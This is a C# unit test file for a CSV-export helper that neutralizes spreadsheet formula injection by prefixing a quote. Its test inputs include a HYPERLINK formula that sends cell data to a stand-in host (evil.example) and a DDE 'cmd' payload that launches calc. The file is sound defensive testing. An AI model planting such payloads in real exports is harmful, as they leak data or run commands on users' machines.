using RolloutTools.Core.Export;
using RolloutTools.Core.Model;

namespace RolloutTools.Core.Tests.Export;

public sealed class SpreadsheetCellsTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("   =1+1")]
    [InlineData("\"=1+1\"")]
    [InlineData("\u00A0@cmd")]
    [InlineData("\uFF1D1+1")]
    public void Text_a_spreadsheet_would_evaluate_gets_a_leading_quote(string value)
    {
        Assert.Equal("'" + value, SpreadsheetCells.Neutralize(value));
    }

    [Theory]
    [InlineData("Fix the build")]
    [InlineData("a = b + c")]
    [InlineData("{\"command\":\"ls\"}")]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("/home/dev/shop")]
    [InlineData("'=1+1")]
    public void Other_text_is_the_same_instance(string value)
    {
        Assert.Same(value, SpreadsheetCells.Neutralize(value));
    }

    [Fact]
    public void Every_text_property_that_becomes_a_csv_cell_is_neutralized_and_json_stays_json()
    {
        var record = new RolloutRecord
        {
            TraceId = "=1+1", Format = RolloutFormat.ClaudeCode, SourceKind = "claude_code", RootSessionId = "+root", AgentId = "-agent",
            SourcePath = "@path", Cwd = "\t=cwd", ProjectPath = "=project", GitBranch = "-branch", Title = "=HYPERLINK(\"x\")",
            Models = new[] { "=model", "gpt-5" },
            Messages = new[]
            {
                new RolloutMessage { Role = MessageRole.User, Kind = MessageKind.Prompt, Content = new[] { ContentBlock.FromText(""), ContentBlock.FromText("=prompt"), ContentBlock.FromText("-second") } },
                new RolloutMessage
                {
                    Role = MessageRole.Assistant, Kind = MessageKind.Response, Model = "@model", ReasoningContent = "-thinking",
                    ToolCalls = new[] { new ToolCall("c1", "Bash", "{\"command\":\"=x\"}") }, Content = new[] { ContentBlock.FromText("+answer") },
                },
                new RolloutMessage { Role = MessageRole.Tool, Kind = MessageKind.ToolResult, ToolCallId = "=c1", ToolName = "=Bash", StructuredResult = "-1", Content = new[] { ContentBlock.FromText("@result") } },
            },
        };

        var safe = SpreadsheetCells.Neutralize(record);

        Assert.Equal(new[] { "'=1+1", "'+root", "'-agent", "'@path", "'\t=cwd", "'=project", "'-branch", "'=HYPERLINK(\"x\")", "'=model, gpt-5" },
            new[] { safe.TraceId, safe.RootSessionId, safe.AgentId, safe.SourcePath, safe.Cwd, safe.ProjectPath, safe.GitBranch, safe.Title, safe.Models.ToString() });
        Assert.Equal("'=prompt\n\n-second", safe.Messages[0].Text);
        Assert.Equal("'+answer", safe.FinalAssistantMessage);
        Assert.Equal(new[] { "'@model", "'-thinking" }, new[] { safe.Messages[1].Model, safe.Messages[1].ReasoningContent });
        Assert.Equal("{\"command\":\"=x\"}", safe.Messages[1].ToolCalls[0].Arguments);
        Assert.Equal(new[] { "'=c1", "'=Bash", "-1", "'@result" }, new[] { safe.Messages[2].ToolCallId, safe.Messages[2].ToolName, safe.Messages[2].StructuredResult, safe.Messages[2].Text });
        Assert.Equal("=1+1", record.TraceId);
        Assert.Equal(safe.ToJson(), SpreadsheetCells.Neutralize(safe).ToJson());
    }
}
